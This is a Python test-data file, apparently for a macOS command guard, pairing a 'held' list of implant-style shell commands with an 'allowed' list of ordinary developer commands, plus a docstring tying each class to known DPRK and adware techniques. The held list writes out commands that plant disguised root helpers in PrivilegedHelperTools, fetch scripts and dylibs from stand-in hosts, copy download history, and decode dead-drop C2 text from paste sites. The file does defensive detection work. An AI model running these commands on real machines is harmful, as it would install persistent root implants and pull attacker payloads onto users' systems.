"""macOS implant classes a fresh round found (helper macos26).

Held out by source before any verdict was seen: MITRE's 2024 DPRK macOS emulation plan
(attackevals/ael, Enterprise/dprk: FULLHOUSE.DOORED, STRATOFEAR and the keychain tests), a purple-team
"macOS attack simulation" script and a persistence-triage cheat sheet; tuned on rtrouton's Mac admin
scripts and own spellings of the brief's classes (TCC.db, tccutil, keychain dumps, dscl accounts,
Gatekeeper and SIP, quarantine removal, password dialogs, silent screenshots, launchd, login hooks),
which the guards already held. The corpus stays outside the repository (/work/realworld/macos26 on
the machine that measured it). The commands here are variants written for the tests, not the ones
measured:

- ``/Library/PrivilegedHelperTools``: launchd runs the helper there as root for the daemon that names
  it, so a file downloaded, copied or made executable there is a root implant passing for an app's
  helper (STRATOFEAR as ``us.zoom.ZoomHelperTool``), and a program run from there by hand is whatever
  was put there;
- a compiled AppleScript (``.scpt``), JXA script or a dylib fetched from another machine: code only
  ever run (``osascript /tmp/t.scpt``) or loaded, never read first;
- the download history (``~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2``: every
  file's source URL and the app that fetched it) read or copied, as Bundlore does to find the disk
  image it came from (a second tuning source: SentinelOne's macOS payloads post, with a found dropper
  script). A second held-out part (a blog's captured installer and an OSX.Pirrit write-up) was split
  off and measured before this last class;
- text fetched and deciphered (``curl URL | tr 'n-za-mN-ZA-M' 'a-mn-zA-MN-Z' | rev``, also through ``echo
  "$(curl URL)"``): a dead drop, the address or payload a dropper keeps in a public page under a letter
  rotation (the found dropper script's C2 lookup); a case change or a reversal of local text is not one.
"""

HELD: dict[str, list[str]] = {
    "privileged helper planted": [
        "sudo curl -sL -o /Library/PrivilegedHelperTools/com.google.keystone.helper http://10.1.2.3/k",
        "cp ./agent /Library/PrivilegedHelperTools/com.microsoft.autoupdate.helper",
        "sudo chmod 755 /Library/PrivilegedHelperTools/com.docker.vmnetd",
        "sudo mv /tmp/.u /Library/PrivilegedHelperTools/us.zoom.ZoomDaemon",
        "wget -O /Library/PrivilegedHelperTools/com.apple.sysmond https://cdn.example.net/bin",
    ],
    "privileged helper run by hand": [
        "/Library/PrivilegedHelperTools/com.docker.vmnetd.bak",
        "sudo /Library/PrivilegedHelperTools/us.zoom.ZoomHelperTool-Runner -p /tmp/ABCDEF.tmp",
        "nohup /Library/PrivilegedHelperTools/com.adobe.acc.installer.v2 >/dev/null 2>&1 &",
    ],
    "compiled script or library fetched": [
        "curl -s -o /tmp/update.scpt https://files-backup.example.org/u.scpt",
        "wget -q http://198.51.100.7/stage/prompt.applescript",
        "curl -L -o ~/Library/Caches/x.tmp https://cdn.example.net/m/libkc.dylib",
        "curl -sO http://203.0.113.9/j/run.jxa",
    ],
    "download history read": [
        "sqlite3 ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 'select * from x'",
        "sqlite3 -line $HOME/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV* .dump",
        "cp ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 /tmp/.q",
        "strings ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 | grep http",
    ],
    "dead drop deciphered": [
        "u=$(curl -s https://gist.githubusercontent.com/x/abc/raw/c.txt | rev)",
        "curl -fsSL https://pastebin.com/raw/Zx81 | tr 'A-Za-z' 'N-ZA-Mn-za-m' | base64 -d",
        "c2=\"$(echo \"$(wget -qO- https://raw.example.com/x/README)\" | tr 'a-z' 'n-za-m')\"",
    ],
}

ALLOWED: list[str] = [
    # launchd, quarantine, keychain and settings read: what a developer looks at
    "launchctl list | grep com.example",
    "launchctl print gui/501/com.example.agent",
    "xattr -l ~/Downloads/Tool.dmg",
    "security find-identity -v -p codesigning",
    "defaults read com.apple.dock autohide",
    "xattr -p com.apple.quarantine ~/Downloads/Tool.dmg",
    "ls ~/Library/Preferences/ | grep LaunchServices",
    "ls -l /Library/PrivilegedHelperTools/",
    "codesign -dv --verbose=4 /Library/PrivilegedHelperTools/com.docker.vmnetd",
    "cat /Library/LaunchDaemons/com.docker.vmnetd.plist",
    # Homebrew and Xcode, downloads of archives and text
    "brew install --cask docker",
    "xcode-select --install",
    "xcodebuild -scheme MyApp -configuration Debug build",
    "curl -LO https://github.com/example/tool/releases/download/v1.2.0/tool-darwin-arm64.tar.gz",
    "curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh -o /tmp/brew-install.sh",
    "curl -o build/libfoo.dylib.sha256 https://example.com/libfoo.dylib.sha256",
    "osacompile -o build/Helper.scpt src/helper.applescript",
    "otool -L build/Release/libcore.dylib",
    # text fetched and filtered, reversed or upper-cased without a cipher
    "curl -s https://api.github.com/repos/o/r/tags | tr a-z A-Z",
    "curl -s https://example.com/list.txt | tr -d '\\r' | sort -u",
    "git log --format=%an | rev | sort | rev",
    'echo "$(curl -s https://api.example.com/v1/status)" | jq .',
]
